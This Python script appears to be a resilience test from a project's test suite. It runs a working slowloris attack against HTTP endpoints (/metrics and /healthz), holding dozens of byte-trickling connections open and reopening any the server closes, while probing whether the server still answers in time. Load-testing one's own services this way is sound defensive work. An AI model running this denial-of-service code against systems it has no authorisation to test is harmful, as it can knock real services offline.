#!/usr/bin/env python3
"""A slowloris against HTTP endpoints, while probing them: the attack of
issue #27 item 5, for metrics_abuse_test.sh.

For each target HOST:PORT it keeps --stalls connections open (half of them
to /metrics, half to /healthz), each sending its request one byte every
--interval seconds and never finishing it: a request line, then a header
that never ends. A connection the server closes is opened again at once, as
an attacker would. Meanwhile, every --probe-every seconds, a fresh GET
/healthz and a fresh GET /metrics go to each target; each must answer 200
(/healthz: "ok") within --within seconds.

Exit 0 when every probe answered in time, all --stalls connections were open
while probing and, with --expect-closed-after S, the server closed every
stalled connection within S seconds of opening it. Exit 1 otherwise, with
the failures. Prints one summary line per target.

Usage: slowloris.py [--stalls 64] [--seconds 8] TARGET...
"""

import argparse
import socket
import sys
import time


class Stall:
    """One stalled connection: it sends its request a byte at a time."""

    def __init__(self, host, port, path):
        self.host, self.port, self.path = host, port, path
        self.sock = None
        self.opened = 0.0
        self.sent = 0
        self.lifetimes = []  # seconds each earlier connection lived until the server closed it

    def payload(self, i):
        head = f"GET {self.path} HTTP/1.1\r\nHost: {self.host}\r\nX-Slow: ".encode()
        return head[i:i + 1] if i < len(head) else b"a"

    def open(self):
        self.sock = socket.create_connection((self.host, self.port), timeout=2)
        self.sock.setblocking(False)
        self.opened = time.monotonic()
        self.sent = 0
        self.trickle()

    def closed_by_server(self):
        try:
            data = self.sock.recv(4096)
        except BlockingIOError:
            return False
        except OSError:
            return True
        return data == b"" or len(data) > 0  # EOF, or an answer (408, 431, 503): done with us

    def trickle(self):
        """Sends the next byte; False if the server has closed the connection."""
        if self.closed_by_server():
            return False
        try:
            self.sock.send(self.payload(self.sent))
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            return False
        self.sent += 1
        return True

    def reopen(self):
        self.lifetimes.append(time.monotonic() - self.opened)
        self.sock.close()
        self.open()


def probe(host, port, path, within):
    """A fresh GET; (seconds, problem or None)."""
    start = time.monotonic()
    try:
        with socket.create_connection((host, port), timeout=within) as s:
            s.settimeout(max(0.01, within - (time.monotonic() - start)))
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            answer = b""
            while True:
                s.settimeout(max(0.01, within - (time.monotonic() - start)))
                chunk = s.recv(65536)
                if not chunk:
                    break
                answer += chunk
    except OSError as e:
        return time.monotonic() - start, f"{type(e).__name__}: {e}"
    took = time.monotonic() - start
    status = answer.split(b"\r\n", 1)[0].decode(errors="replace")
    if not status.startswith("HTTP/1.1 200"):
        return took, f"status line {status!r}"
    body = answer.split(b"\r\n\r\n", 1)[-1]
    if path == "/healthz" and body != b"ok\n":
        return took, f"body {body[:40]!r}"
    if path == "/metrics" and b"# TYPE " not in body:
        return took, f"no metric families in {len(body)} bytes"
    if took > within:
        return took, f"answered after {took:.2f} s"
    return took, None


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("targets", nargs="+", metavar="HOST:PORT")
    parser.add_argument("--stalls", type=int, default=64, help="stalled connections per target")
    parser.add_argument("--interval", type=float, default=0.5, help="seconds between a stall's bytes")
    parser.add_argument("--seconds", type=float, default=8.0, help="how long to probe under attack")
    parser.add_argument("--probe-every", type=float, default=0.25, help="seconds between probe rounds")
    parser.add_argument("--within", type=float, default=1.0, help="a probe's answer must come within this")
    parser.add_argument("--expect-closed-after", type=float, default=0.0,
                        help="if set: every stalled connection must be closed by the server within this many seconds")
    args = parser.parse_args()

    targets = []
    for t in args.targets:
        host, _, port = t.rpartition(":")
        targets.append((host, int(port)))
    stalls = {t: [Stall(t[0], t[1], "/metrics" if i % 2 == 0 else "/healthz") for i in range(args.stalls)]
              for t in targets}
    for group in stalls.values():
        for s in group:
            s.open()
    # Let every stall deliver a few bytes first: the server is now holding them.
    settle = time.monotonic() + 2 * args.interval
    next_trickle = time.monotonic()
    failures = {t: [] for t in targets}
    latencies = {t: [] for t in targets}
    end = settle + args.seconds
    next_probe = settle
    while time.monotonic() < end:
        now = time.monotonic()
        if now >= next_trickle:
            for group in stalls.values():
                for s in group:
                    if not s.trickle():
                        s.reopen()
            next_trickle = now + args.interval
        if now >= next_probe:
            for t in targets:
                for path in ("/healthz", "/metrics"):
                    took, problem = probe(t[0], t[1], path, args.within)
                    latencies[t].append(took)
                    if problem:
                        failures[t].append(f"{path} at +{now - settle:.1f}s: {problem}")
            next_probe = time.monotonic() + args.probe_every
        time.sleep(max(0.0, min(next_trickle, next_probe) - time.monotonic()))

    ok = True
    for t in targets:
        group = stalls[t]
        closed = [s for s in group if s.lifetimes]
        longest = max((x for s in group for x in s.lifetimes), default=0.0)
        open_now = max((time.monotonic() - s.opened for s in group), default=0.0)
        print(f"{t[0]}:{t[1]}: {len(latencies[t])} probes under {len(group)} stalled connections, "
              f"slowest {max(latencies[t], default=0):.3f} s, {len(failures[t])} failed; "
              f"{len(closed)}/{len(group)} stalls closed by the server "
              f"({sum(len(s.lifetimes) for s in group)} times, longest life {longest:.1f} s, "
              f"oldest still open {open_now:.1f} s)")
        for f in failures[t][:10]:
            print(f"  FAILED probe {f}")
        if failures[t] or not latencies[t]:
            ok = False
        if args.expect_closed_after > 0:
            if len(closed) < len(group) or longest > args.expect_closed_after or open_now > args.expect_closed_after:
                print(f"  FAILED: the server did not close every stalled connection within "
                      f"{args.expect_closed_after} s")
                ok = False
    for group in stalls.values():
        for s in group:
            s.sock.close()
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
